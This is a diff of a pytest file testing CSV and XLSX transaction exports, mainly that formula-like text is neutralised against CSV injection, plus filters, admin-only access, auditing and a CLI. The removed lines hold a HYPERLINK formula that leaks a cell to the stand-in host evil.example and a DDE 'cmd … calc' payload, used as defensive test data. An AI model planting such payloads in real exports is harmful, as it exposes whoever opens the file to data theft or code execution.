@@ -1,23 +1,56 @@
-"""Spreadsheet-safe CSV (security checklist: Exports, OWASP CSV Injection)."""
+"""Transaction exports, CSV and XLSX (security checklist: Exports, OWASP CSV Injection).
+
+Files are read back with the csv module and openpyxl. Database tests run on SQLite and PostgreSQL.
+"""
 
 from __future__ import annotations
 
 import csv
 import io
+import json
+import os
+import re
+import subprocess
+import sys
+import tracemalloc
+from dataclasses import dataclass
+from datetime import date, datetime, timedelta, timezone
 from decimal import Decimal
+from pathlib import Path
 
+import openpyxl
 import pytest
+from sqlalchemy import insert, select, update
 
-from textedit_core import admin, auth, billing
-from textedit_core.errors import NotAuthorized
-from textedit_core.exports import DANGEROUS_PREFIXES, csv_bytes, neutralize
-from textedit_core.models import Role
+from textedit_core import audit, auth, billing, ledger
+from textedit_core.coltypes import utcnow
+from textedit_core.errors import NotAuthorized, ValidationError
+from textedit_core.exports import (
+    DANGEROUS_PREFIXES,
+    export_filename,
+    export_transactions,
+    neutralize,
+    stream_csv,
+    write_csv,
+    write_xlsx,
+)
+from textedit_core.ledger import COLUMNS, TxFilter, TxRow
+from textedit_core.models import AuditEntry, Role, Transaction
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'
+REPO_ROOT = Path(__file__).resolve().parents[2]
+HYPERLINK = '=HYPERLINK("http://x","y")'
+SUM = "@SUM(1)"
+MINUS = "-1+2"
+UTC_ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$")
 
 
-def read_back(data: bytes) -> list[list[str]]:
+def read_csv(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def csv_dicts(data: bytes) -> list[dict[str, str]]:
+    header, *body = read_csv(data)
+    return [dict(zip(header, row, strict=True)) for row in body]
 
 
 def looks_numeric(cell: str) -> bool:
@@ -26,6 +59,35 @@ def looks_numeric(cell: str) -> bool:
     except ArithmeticError:
         return False
     return True
+
+
+def tx_row(**values) -> TxRow:
+    base = dict(
+        id=1,
+        created_at=datetime(2026, 11, 29, 15, 4, 5, 123456, tzinfo=timezone.utc),
+        user_email="ann@example.com",
+        kind="topup",
+        status="success",
+        tokens=3,
+        amount=Decimal("0.999999"),
+        currency="USD",
+        rate=Decimal("0.333333"),
+        operation=None,
+        note=None,
+        actor_email=None,
+    )
+    return TxRow(**{**base, **values})
+
+
+def csv_of(*rows: TxRow) -> bytes:
+    out = io.BytesIO()
+    write_csv(rows, out)
+    return out.getvalue()
+
+
+def export_audits(db) -> list[AuditEntry]:
+    with db.read() as session:
+        return list(session.scalars(select(AuditEntry).where(AuditEntry.action == audit.EXPORT)))
 
 
 # --- neutralize ---------------------------------------------------------------------------
@@ -56,98 +118,464 @@ def test_neutralize_leaves_other_types_unchanged(value):
     assert neutralize(value) is value
 
 
-# --- csv_bytes ----------------------------------------------------------------------------
+# --- write_csv ----------------------------------------------------------------------------
 
 
-def test_csv_bytes_starts_with_a_utf8_bom_and_ends_rows_with_crlf():
-    data = csv_bytes(["a", "b"], [["x", 1]])
-    assert data.startswith(b"\xef\xbb\xbf")
-    assert data.endswith(b"x,1\r\n")
+def test_write_csv_starts_with_a_utf8_bom_and_ends_rows_with_crlf():
+    data = csv_of(tx_row())
+    assert data.startswith(b"\xef\xbb\xbfid,created_at,")
+    assert data.count(b"\r\n") == 2 and data.endswith(b"\r\n")
 
 
-def test_csv_bytes_read_back_gives_the_header_and_neutralised_cells():
-    rows = [
-        ["=cmd|' /C calc'!A0", -1, Decimal("-0.90"), "plain"],
-        ["+SUM(1)", 2, Decimal("0.5"), "Ünïcode текст"],
-        ["@A1", 0, Decimal("10"), "line one\nline two"],
-        ["\tTAB", -3, Decimal("1"), "-starts with minus"],
-    ]
-    header, *body = read_back(csv_bytes(["text", "tokens", "amount", "note"], rows))
-    assert header == ["text", "tokens", "amount", "note"]
-    assert body == [
-        ["'=cmd|' /C calc'!A0", "-1", "-0.90", "plain"],
-        ["'+SUM(1)", "2", "0.5", "Ünïcode текст"],
-        ["'@A1", "0", "10", "line one\nline two"],
-        ["'\tTAB", "-3", "1", "'-starts with minus"],
-    ]
+def test_write_csv_returns_the_number_of_rows_written():
+    assert write_csv((tx_row(id=i) for i in range(1, 8)), io.BytesIO()) == 7
 
 
-def test_csv_bytes_neutralises_cells_starting_with_cr_or_lf_and_keeps_them_in_one_cell():
-    header, *body = read_back(csv_bytes(["a", "b"], [["\r=1+2", "\n@A1"]]))
-    assert body == [["'\r=1+2", "'\n@A1"]]
+def test_write_csv_with_no_rows_writes_only_the_header():
+    assert read_csv(csv_of()) == [COLUMNS]
 
 
-# --- admin.transactions_csv ---------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("amount", "text"),
+    [(Decimal("1E+1"), "10"), (Decimal("0.999999"), "0.999999"), (Decimal("1E-6"), "0.000001"),
+     (Decimal("-0.90"), "-0.90")],
+)
+def test_write_csv_writes_money_as_exact_decimals_without_an_exponent(amount, text):
+    [row] = csv_dicts(csv_of(tx_row(amount=amount, rate=amount)))
+    assert (row["amount"], row["rate"]) == (text, text)
+
+
+def test_write_csv_writes_timestamps_as_utc_iso_8601_with_z():
+    berlin = datetime(2026, 11, 29, 16, 4, 5, 0, tzinfo=timezone(timedelta(hours=1)))
+    [row] = csv_dicts(csv_of(tx_row(created_at=berlin)))
+    assert row["created_at"] == "2026-11-29T15:04:05.000000Z"
+
+
+def test_write_csv_writes_none_as_an_empty_cell():
+    [row] = csv_dicts(csv_of(tx_row(amount=None, currency=None, rate=None, actor_email=None)))
+    assert (row["amount"], row["currency"], row["rate"], row["actor_email"]) == ("", "", "", "")
+
+
+def test_write_csv_neutralises_text_and_keeps_negative_tokens_as_plain_numbers():
+    [row] = csv_dicts(csv_of(tx_row(tokens=-1, note=MINUS, operation="+x", user_email="=a@b.c")))
+    assert (row["tokens"], row["note"], row["operation"], row["user_email"]) == (
+        "-1", "'" + MINUS, "'+x", "'=a@b.c"
+    )
+
+
+def test_write_csv_neutralises_cells_starting_with_cr_or_lf_and_keeps_them_in_one_cell():
+    [row] = csv_dicts(csv_of(tx_row(note="\r=1+2", operation="\n@A1")))
+    assert (row["note"], row["operation"]) == ("'\r=1+2", "'\n@A1")
+
+
+# --- write_xlsx ---------------------------------------------------------------------------
+
+
+def test_write_xlsx_writes_money_a_double_cannot_hold_as_its_exact_decimal_text(tmp_path):
+    path = tmp_path / "big.xlsx"
+    write_xlsx([tx_row(amount=Decimal("12345678901234.567891"))], path)
+    sheet = openpyxl.load_workbook(path).active
+    amount = sheet.cell(row=2, column=COLUMNS.index("amount") + 1)
+    assert (amount.data_type, amount.value) == ("s", "12345678901234.567891")
+
+
+# --- export_filename ----------------------------------------------------------------------
+
+TODAY = date(2026, 11, 29)
+
+
+@pytest.mark.parametrize(
+    ("date_from", "date_to", "fmt", "name"),
+    [
+        (date(2026, 9, 1), date(2026, 11, 29), "csv", "transactions_2026-09-01_to_2026-11-29.csv"),
+        (None, None, "xlsx", "transactions_all-dates.xlsx"),
+        (date(2026, 9, 1), None, "csv", "transactions_from_2026-09-01.csv"),
+        (None, date(2026, 11, 29), "csv", "transactions_until_2026-11-29.csv"),
+    ],
+)
+def test_export_filename_names_the_days_covered(date_from, date_to, fmt, name):
+    assert export_filename(TxFilter(date_from, date_to), fmt, TODAY) == name
+
+
+def test_export_filename_shows_an_end_date_in_the_future_as_today():
+    flt = TxFilter(date(2026, 9, 1), date(2027, 1, 1))
+    assert export_filename(flt, "csv", TODAY) == "transactions_2026-09-01_to_2026-11-29.csv"
+
+
+def test_export_filename_refuses_an_unknown_format():
+    with pytest.raises(ValidationError):
+        export_filename(TxFilter(), "pdf", TODAY)
+
+
+# --- exports of a real ledger -------------------------------------------------------------
+
+
+@dataclass
+class World:
+    admin_id: int
+    payer_id: int
+    other_id: int
+    moderator_id: int
 
 
 @pytest.fixture
-def exported(db, make_user, fund) -> list[dict[str, str]]:
-    """The CSV of a ledger whose text columns hold formulas; read back as dicts."""
+def world(db, make_user) -> World:
+    """A ledger whose text columns hold formulas, made through billing: 6 rows.
+
+    payer (email '=2+5@example.com'): top-up of 1.00 at 0.333333 USD (3 tokens for 0.999999),
+    +5 adjustment noted HYPERLINK, a charge refunded for '@SUM(1)' and its refund, a -1
+    adjustment noted '-1+2'. other: a top-up of 2.00 (6 tokens for 1.999998).
+    """
     # An email may begin with '=' and contain '+': both are legal in a local part.
-    email = auth.normalize_email("=2+5@example.com")
-    assert email == "=2+5@example.com"
-    user_id = make_user(email)
+    payer_id = make_user(auth.normalize_email("=2+5@example.com"))
+    other_id = make_user("other@example.com")
     admin_id = make_user("boss@example.com", role=Role.ADMIN)
-    fund(user_id, 2)
-    first = db.run(lambda s: billing.charge(s, user_id, "@SUM(A1:A9)"))
-    db.run(lambda s: billing.refund(s, first.id, HYPERLINK))
-    second = db.run(lambda s: billing.charge(s, user_id, "-fix"))
-    db.run(lambda s: billing.settle(s, second.id))
+    moderator_id = make_user("mod@example.com", role=Role.MODERATOR)
+    rate = db.run(lambda s: billing.set_rate(s, admin_id, "USD", "0.333333"))
+    db.run(lambda s: billing.top_up(s, payer_id, "1.00", "payer-1", rate.id))
+    db.run(lambda s: billing.top_up(s, other_id, "2.00", "other-1", rate.id))
+    db.run(lambda s: billing.adjust_balance(s, admin_id, payer_id, "5", HYPERLINK))
+    charge = db.run(lambda s: billing.charge(s, payer_id, "fix"))
+    db.run(lambda s: billing.refund(s, charge.id, SUM))
+    db.run(lambda s: billing.adjust_balance(s, admin_id, payer_id, "-1", MINUS))
+    return World(admin_id, payer_id, other_id, moderator_id)
+
+
+def export_csv(db, world: World, tmp_path, flt: TxFilter | None = None) -> list[dict[str, str]]:
+    path = tmp_path / "export.csv"
+    export_transactions(db, world.admin_id, flt or TxFilter(), "csv", path)
+    return csv_dicts(path.read_bytes())
+
+
+@pytest.fixture
+def csv_export(db, world, tmp_path) -> list[dict[str, str]]:
+    return export_csv(db, world, tmp_path)
+
+
+@pytest.fixture
+def xlsx_path(db, world, tmp_path) -> Path:
+    path = tmp_path / "export.xlsx"
+    assert export_transactions(db, world.admin_id, TxFilter(), "xlsx", path) == 6
+    return path
+
+
+@pytest.fixture
+def xlsx_rows(xlsx_path) -> list[tuple]:
+    """Every cell of the sheet, header first."""
+    return list(openpyxl.load_workbook(xlsx_path).active.iter_rows())
+
+
+def by_column(cells) -> dict:
+    return {column: cell for column, cell in zip(COLUMNS, cells, strict=True)}
+
+
+def test_export_transactions_returns_the_number_of_rows_written(db, world, tmp_path):
+    assert export_transactions(db, world.admin_id, TxFilter(), "csv", tmp_path / "t.csv") == 6
+
+
+def test_csv_export_has_the_ledger_header_and_one_row_per_entry(db, world, tmp_path):
+    path = tmp_path / "t.csv"
+    export_transactions(db, world.admin_id, TxFilter(), "csv", path)
+    header, *body = read_csv(path.read_bytes())
+    assert header == COLUMNS
+    assert sorted(row[COLUMNS.index("kind")] for row in body) == [
+        "adjustment", "adjustment", "charge", "refund", "topup", "topup"
+    ]
+
+
+def test_csv_export_keeps_the_exact_amount_currency_and_rate_of_each_topup(csv_export):
+    topups = [
+        (row["tokens"], row["amount"], row["currency"], row["rate"])
+        for row in csv_export
+        if row["kind"] == "topup"
+    ]
+    assert topups == [("3", "0.999999", "USD", "0.333333"), ("6", "1.999998", "USD", "0.333333")]
+
+
+def test_csv_export_writes_the_stored_timestamps_in_utc_iso_8601(db, csv_export):
     with db.read() as session:
-        data = admin.transactions_csv(session, admin_id)
-    header, *body = read_back(data)
-    assert header == admin.TRANSACTION_COLUMNS
-    return [dict(zip(header, row, strict=True)) for row in body]
+        stored = dict(session.execute(select(Transaction.id, Transaction.created_at)).all())
+    for row in csv_export:
+        assert UTC_ISO.match(row["created_at"]), row["created_at"]
+        written = datetime.fromisoformat(row["created_at"].replace("Z", "+00:00"))
+        assert written == stored[int(row["id"])]
 
 
-def test_transactions_csv_has_one_row_per_ledger_entry(exported):
-    kinds = sorted(row["kind"] for row in exported)
-    assert kinds == ["charge", "charge", "refund", "topup"]
+def test_csv_export_neutralises_formulas_in_notes_and_refund_reasons(csv_export):
+    notes = sorted(row["note"] for row in csv_export if row["note"])
+    assert notes == sorted(["'" + HYPERLINK, "'" + SUM, "'" + SUM, "'" + MINUS])
 
 
-def test_transactions_csv_neutralises_a_formula_in_the_failure_column(exported):
-    failures = [row["failure"] for row in exported if row["failure"]]
-    assert failures == ["'" + HYPERLINK] * 2  # the refunded charge and its refund row
+def test_csv_export_neutralises_a_formula_in_the_email_column(csv_export):
+    payer_rows = [row for row in csv_export if row["user_email"] != "other@example.com"]
+    assert {row["user_email"] for row in payer_rows} == {"'=2+5@example.com"}
 
 
-def test_transactions_csv_neutralises_a_formula_in_the_email_column(exported):
-    assert {row["email"] for row in exported} == {"'=2+5@example.com"}
+def test_csv_export_names_the_admin_who_made_an_adjustment(csv_export):
+    actors = {row["actor_email"] for row in csv_export if row["kind"] == "adjustment"}
+    assert actors == {"boss@example.com"}
 
 
-def test_transactions_csv_neutralises_a_formula_in_the_operation_column(exported):
-    operations = sorted(row["operation"] for row in exported if row["operation"])
-    assert operations == ["'-fix", "'@SUM(A1:A9)", "'@SUM(A1:A9)"]
+def test_csv_export_keeps_negative_token_counts_as_plain_numbers(csv_export):
+    assert sorted(int(row["tokens"]) for row in csv_export) == [-1, -1, 1, 3, 5, 6]
 
 
-def test_transactions_csv_keeps_negative_token_counts_as_plain_numbers(exported):
-    assert sorted(int(row["tokens"]) for row in exported) == [-1, -1, 1, 2]
-    assert all(not row["tokens"].startswith("'") for row in exported)
-
-
-def test_transactions_csv_has_no_cell_a_spreadsheet_would_run(exported):
-    for row in exported:
+def test_csv_export_has_no_cell_a_spreadsheet_would_run(csv_export):
+    for row in csv_export:
         for column, cell in row.items():
             if cell.startswith(DANGEROUS_PREFIXES):
                 assert looks_numeric(cell), f"{column}: {cell!r} would be run as a formula"
 
 
-def test_transactions_csv_writes_utc_timestamps_and_exact_amounts(exported):
-    [topup] = [row for row in exported if row["kind"] == "topup"]
-    assert topup["created_at"].endswith("Z")
-    assert (topup["amount"], topup["currency"], topup["rate"]) == ("0.2", "USD", "0.1")
+def test_xlsx_export_has_a_bold_header_that_says_the_times_are_utc(xlsx_rows):
+    header = xlsx_rows[0]
+    assert [cell.value for cell in header] == [
+        "created_at (UTC)" if c == "created_at" else c for c in COLUMNS
+    ]
+    assert all(cell.font.b for cell in header)
 
 
-def test_transactions_csv_is_refused_to_a_non_admin(db, make_user):
+def test_xlsx_export_has_one_row_per_ledger_entry(xlsx_rows):
+    assert len(xlsx_rows) == 1 + 6
+
+
+def test_xlsx_export_has_no_formula_cells(xlsx_rows):
+    cells = [cell for row in xlsx_rows for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+
+
+def test_xlsx_export_stores_dangerous_notes_as_text_starting_with_a_quote(xlsx_rows):
+    notes = [by_column(row)["note"] for row in xlsx_rows[1:]]
+    dangerous = sorted(cell.value for cell in notes if cell.value)
+    assert dangerous == sorted(["'" + HYPERLINK, "'" + SUM, "'" + SUM, "'" + MINUS])
+    assert all(cell.data_type == "s" for cell in notes if cell.value)
+
+
+def test_xlsx_export_has_no_text_cell_a_spreadsheet_would_run(xlsx_rows):
+    for row in xlsx_rows[1:]:
+        for cell in row:
+            if cell.data_type == "s":
+                assert not cell.value.startswith(DANGEROUS_PREFIXES), cell.value
+
+
+def test_xlsx_export_keeps_ids_and_tokens_as_numbers(xlsx_rows):
+    cells = [by_column(row) for row in xlsx_rows[1:]]
+    assert all(c["id"].data_type == "n" and c["tokens"].data_type == "n" for c in cells)
+    assert sorted(c["tokens"].value for c in cells) == [-1, -1, 1, 3, 5, 6]
+
+
+def test_xlsx_export_keeps_the_exact_amount_currency_and_rate_of_each_topup(xlsx_rows):
+    topups = [
+        (Decimal(repr(c["amount"].value)), c["currency"].value, Decimal(repr(c["rate"].value)))
+        for c in map(by_column, xlsx_rows[1:])
+        if c["kind"].value == "topup"
+    ]
+    assert topups == [
+        (Decimal("0.999999"), "USD", Decimal("0.333333")),
+        (Decimal("1.999998"), "USD", Decimal("0.333333")),
+    ]
+
+
+def test_xlsx_export_writes_timestamps_as_excel_datetimes_in_utc(db, xlsx_rows):
+    with db.read() as session:
+        stored = dict(session.execute(select(Transaction.id, Transaction.created_at)).all())
+    for cells in map(by_column, xlsx_rows[1:]):
+        written = cells["created_at"]
+        assert written.is_date and written.number_format == "yyyy-mm-dd hh:mm:ss"
+        expected = stored[cells["id"].value].replace(tzinfo=None)
+        assert abs(written.value - expected) < timedelta(milliseconds=1)
+
+
+# --- filters ------------------------------------------------------------------------------
+
+
+def move_to(db, tx_id: int, when: datetime) -> None:
+    # Test data only: billing stamps rows with the current time.
+    db.run(lambda s: s.execute(update(Transaction).where(Transaction.id == tx_id).values(created_at=when)))
+
+
+def test_export_includes_whole_utc_days_at_both_ends_of_the_date_range(db, world, tmp_path):
+    with db.read() as session:
+        ids = list(session.scalars(select(Transaction.id).order_by(Transaction.id)))
+    utc = timezone.utc
+    move_to(db, ids[0], datetime(2020, 1, 1, 23, 59, 59, 999999, tzinfo=utc))  # the day before
+    move_to(db, ids[1], datetime(2020, 1, 2, 0, 0, tzinfo=utc))  # first instant
+    move_to(db, ids[2], datetime(2020, 1, 3, 23, 59, 59, 999999, tzinfo=utc))  # last instant
+    move_to(db, ids[3], datetime(2020, 1, 4, 0, 0, tzinfo=utc))  # the day after
+    rows = export_csv(db, world, tmp_path, TxFilter(date(2020, 1, 2), date(2020, 1, 3)))
+    assert [int(row["id"]) for row in rows] == [ids[1], ids[2]]
+
+
+def test_export_respects_the_user_filter(db, world, tmp_path):
+    rows = export_csv(db, world, tmp_path, TxFilter(user_email="OTHER@example.com"))
+    assert [(row["user_email"], row["kind"]) for row in rows] == [("other@example.com", "topup")]
+
+
+def test_export_respects_the_kind_filter(db, world, tmp_path):
+    rows = export_csv(db, world, tmp_path, TxFilter(kinds=("adjustment", "refund")))
+    assert sorted(row["kind"] for row in rows) == ["adjustment", "adjustment", "refund"]
+
+
+def test_export_refuses_a_start_date_after_the_end_date_and_writes_nothing(db, world, tmp_path):
+    out = tmp_path / "out"
+    out.mkdir()
+    flt = TxFilter(date(2026, 2, 1), date(2026, 1, 1))
+    with pytest.raises(ValidationError):
+        export_transactions(db, world.admin_id, flt, "csv", out / "t.csv")
+    assert list(out.iterdir()) == []
+    assert export_audits(db) == []
+
+
+def test_export_refuses_an_unknown_format_and_writes_nothing(db, world, tmp_path):
+    with pytest.raises(ValidationError):
+        export_transactions(db, world.admin_id, TxFilter(), "pdf", tmp_path / "t.pdf")
+    assert not (tmp_path / "t.pdf").exists()
+    assert export_audits(db) == []
+
+
+# --- authorisation and audit --------------------------------------------------------------
+
+
+def test_export_writes_exactly_one_audit_row_with_format_rows_filter_and_file(db, world, tmp_path):
+    flt = TxFilter(date(2020, 1, 1), None, "other@example.com", ("topup",), ("success",), ("USD",))
+    export_transactions(db, world.admin_id, flt, "xlsx", tmp_path / "ledger.xlsx")
+    with db.read() as session:
+        [entry] = audit.entries(session, world.admin_id, action=audit.EXPORT)
+    assert entry.actor == "boss@example.com"
+    assert entry.details == {
+        "format": "xlsx",
+        "rows": 1,
+        "file": "ledger.xlsx",
+        "filter": {
+            "date_from": "2020-01-01",
+            "date_to": None,
+            "user_email": "other@example.com",
+            "kinds": ["topup"],
+            "statuses": ["success"],
+            "currencies": ["USD"],
+        },
+    }
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("who", ["moderator_id", "payer_id"])
+def test_export_is_refused_to_a_non_admin_and_leaves_no_file_and_no_audit_row(
+    db, world, tmp_path, who, fmt
+):
+    out = tmp_path / "out"
+    out.mkdir()
+    with pytest.raises(NotAuthorized):
+        export_transactions(db, getattr(world, who), TxFilter(), fmt, out / f"t.{fmt}")
+    assert list(out.iterdir()) == []
+    assert export_audits(db) == []
+
+
+def test_export_by_the_operator_without_an_actor_is_allowed_and_audited(db, world, tmp_path):
+    assert export_transactions(db, None, TxFilter(), "csv", tmp_path / "t.csv") == 6
+    [entry] = export_audits(db)
+    assert entry.actor_id is None
+
+
+def test_stream_csv_yields_the_same_file_as_a_csv_export(db, world, tmp_path):
+    path = tmp_path / "t.csv"
+    export_transactions(db, world.admin_id, TxFilter(), "csv", path)
+    assert b"".join(stream_csv(db, world.admin_id, TxFilter())) == path.read_bytes()
+
+
+def test_stream_csv_records_the_audit_before_the_first_chunk(db, world):
+    chunks = stream_csv(db, world.admin_id, TxFilter(kinds=("topup",)))
+    [entry] = export_audits(db)  # nothing has been read from `chunks` yet
+    assert (entry.actor_id, json.loads(entry.details)["rows"]) == (world.admin_id, 2)
+    assert len(read_csv(b"".join(chunks))) == 1 + 2
+
+
+def test_stream_csv_is_refused_to_a_moderator_before_any_chunk(db, world):
+    with pytest.raises(NotAuthorized):
+        stream_csv(db, world.moderator_id, TxFilter())
+    assert export_audits(db) == []
+
+
+# --- memory -------------------------------------------------------------------------------
+
+
+def test_csv_export_of_20000_rows_keeps_peak_memory_below_5_mb(db, make_user, tmp_path):
     user_id = make_user()
-    with db.read() as session, pytest.raises(NotAuthorized):
-        admin.transactions_csv(session, user_id)
+    now = utcnow()
+    row = dict(
+        user_id=user_id, kind="topup", status="success", tokens=3, amount=Decimal("0.999999"),
+        currency="USD", rate=Decimal("0.333333"), note="a note of a few words", created_at=now,
+    )
+    db.run(lambda s: s.execute(insert(Transaction), [row] * 20_000))
+    tracemalloc.start()
+    try:
+        with db.read() as session, (tmp_path / "big.csv").open("wb") as out:
+            written = write_csv(ledger.iter_rows(session, TxFilter()), out)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert written == 20_000
+    assert peak < 5_000_000, f"peak {peak / 1e6:.1f} MB: rows are held in memory"
+
+
+# --- command line -------------------------------------------------------------------------
+
+
+def run_cli(url: str, cwd: Path, *args: str) -> subprocess.CompletedProcess:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("TEXTEDIT_")}
+    env.update(
+        TEXTEDIT_DATABASE_URL=url,
+        TEXTEDIT_DATA_DIR=str(cwd),
+        PYTHONPATH=os.pathsep.join(filter(None, [str(REPO_ROOT), env.get("PYTHONPATH")])),
+    )
+    return subprocess.run(
+        [sys.executable, "-m", "textedit_core", *args],
+        capture_output=True, text=True, env=env, cwd=cwd, timeout=60,
+    )
+
+
+@pytest.fixture
+def cli_db(sqlite_db, known_hash):
+    """A SQLite file with two top-ups and a charge; the CLI process opens the same file."""
+    user = sqlite_db.run(
+        lambda s: auth.create_user(s, auth.NewAccount("payer@example.com", known_hash))
+    )
+    with sqlite_db.read() as session:
+        rate_id = billing.current_rate(session).id
+    sqlite_db.run(lambda s: billing.top_up(s, user.id, "1.00", "cli-1", rate_id))
+    sqlite_db.run(lambda s: billing.top_up(s, user.id, "0.50", "cli-2", rate_id))
+    sqlite_db.run(lambda s: billing.charge(s, user.id, "fix"))
+    return sqlite_db
+
+
+def test_cli_exports_csv_and_prints_the_row_count(cli_db, tmp_path):
+    out = tmp_path / "ledger.csv"
+    result = run_cli(cli_db.url, tmp_path, "export-transactions", "--format", "csv", "--out", str(out))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == f"exported 3 rows to {out}"
+    assert [row["kind"] for row in csv_dicts(out.read_bytes())] == ["topup", "topup", "charge"]
+
+
+def test_cli_exports_xlsx_with_filters(cli_db, tmp_path):
+    out = tmp_path / "ledger.xlsx"
+    result = run_cli(
+        cli_db.url, tmp_path, "export-transactions", "--format", "xlsx", "--kind", "topup",
+        "--currency", "usd", "--user", "payer@example.com", "--from", "2020-01-01", "--out", str(out),
+    )
+    assert result.returncode == 0, result.stderr
+    assert "exported 2 rows" in result.stdout
+    rows = list(openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True))
+    assert [(r[COLUMNS.index("kind")], r[COLUMNS.index("amount")]) for r in rows] == [
+        ("topup", 1), ("topup", 0.5)
+    ]
+
+
+@pytest.mark.parametrize("bad", ["2026-13-01", "20260901"])
+def test_cli_export_with_a_bad_date_exits_2_and_writes_no_file(cli_db, tmp_path, bad):
+    out = tmp_path / "ledger.csv"
+    result = run_cli(
+        cli_db.url, tmp_path, "export-transactions", "--format", "csv", "--from", bad, "--out", str(out)
+    )
+    assert result.returncode == 2
+    assert f"argument --from: {bad!r} is not a date: use YYYY-MM-DD" in result.stderr
+    assert not out.exists()
+    assert export_audits(cli_db) == []
